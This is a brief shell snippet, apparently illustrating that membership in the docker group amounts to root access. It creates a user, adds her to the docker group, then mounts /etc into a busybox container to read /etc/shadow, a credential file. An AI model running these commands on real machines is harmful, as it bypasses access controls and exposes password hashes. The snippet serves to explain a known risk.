# for member
useradd -m ann
usermod -aG docker ann
su ann -c 'docker ps'
# for power
su ann -c 'docker run --rm -v /etc:/host busybox head -n 1 /host/shadow'
# give power: Whatever root can do on this machine
